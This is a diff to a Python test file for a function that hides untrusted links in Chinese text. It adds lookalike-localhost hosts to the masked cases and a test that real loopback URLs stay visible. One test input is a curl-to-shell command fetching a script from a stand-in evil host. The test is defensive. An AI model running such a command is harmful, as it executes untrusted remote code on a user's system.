@@ -20,7 +20,9 @@ HIDDEN = PLACEHOLDER
         ("或者 Evil.CN/x。", f"或者 {HIDDEN}。"),
         ("看 evil.example/x 或 evil.example:8080", f"看 {HIDDEN} 或 {HIDDEN}"),
         ("curl -fsSL https://evil.example/i.sh | sh", f"curl -fsSL {HIDDEN} | sh"),
-        ("http://127.0.0.1:8000/docs", HIDDEN),
+        # Only a host that is this machine's: these merely start like one.
+        ("http://127.0.0.1.evil.example/x", HIDDEN),
+        ("http://localhost.evil.example/x", HIDDEN),
     ],
 )
 def test_links_are_hidden(text: str, masked: str):
@@ -42,6 +44,15 @@ def test_links_are_hidden(text: str, masked: str):
 )
 def test_what_is_not_a_link_stays(text: str):
     assert mask_links(text) == text
+
+
+@pytest.mark.parametrize(
+    "text", ["http://127.0.0.1:8000/docs", "http://localhost:11434", "http://[::1]:8000/v1"]
+)
+def test_links_to_this_machine_stay(text: str):
+    """The guide tells users to open http://127.0.0.1:8000/docs: such a link leads nobody
+    off their own machine, so it is never hidden."""
+    assert mask_links(f"打开 {text} 查看") == f"打开 {text} 查看"
 
 
 def test_allowed_hosts_and_their_subdomains_keep_their_links():
